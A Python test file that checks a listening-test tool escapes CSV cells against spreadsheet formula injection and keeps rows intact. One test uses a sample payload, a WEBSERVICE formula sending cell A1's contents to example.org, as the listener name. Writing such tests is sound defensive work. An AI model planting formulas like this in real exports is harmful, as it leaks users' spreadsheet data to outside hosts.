"""Cells of CSV tables: text for spreadsheets, and whole rows for every reader."""

import csv
import io

import pytest

from voicenym.listening.exchange.answer_tables import as_csv, read_table
from voicenym.listening.exchange.other_tools import webmushra_answers
from voicenym.listening.ratings import Rating
from voicenym.table_cells import FORMULA, is_formula, read, stored


@pytest.mark.parametrize("cell", ["=1+1", "'=1", "''@a", "-", "it's", "", "'quoted'", "a=b", "'"])
def test_no_stored_cell_is_a_formula_and_each_is_read_back(cell):
    assert not is_formula(stored(cell))
    assert read(stored(cell)) == cell


def test_numbers_stay_numbers():
    assert [stored(value) for value in (-1.5, 3, None)] == [-1.5, 3, None]


@pytest.mark.parametrize("text", ["one\rtwo", "one\r\ntwo", "\rone"])
def test_a_carriage_return_does_not_end_a_row(text):
    table = io.StringIO()
    csv.writer(table, lineterminator="\n").writerow([stored(text), "end"])
    rows = list(csv.reader(io.StringIO(table.getvalue(), newline="")))
    assert len(rows) == 1
    assert read(rows[0][0]) == text.replace("\r\n", "\n").replace("\r", "\n")


def test_tables_of_answers_hold_no_formulas_and_are_read_back(tmp_path):
    who = '=WEBSERVICE("https://example.org/?" & A1)'
    said = Rating(
        who, "u1 a", "mushra", "MUSHRA quality", "+a", "@u1", "-s", 50.0, "", "", 1.0, 2.0
    )
    for table in (as_csv([said]), webmushra_answers([said])):
        cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA)]
    path = tmp_path / "answers.csv"
    path.write_text(as_csv([said]), "utf-8")
    (back,) = read_table(path)
    assert (back.listener, back.system, back.utterance, back.speaker) == (who, "+a", "@u1", "-s")
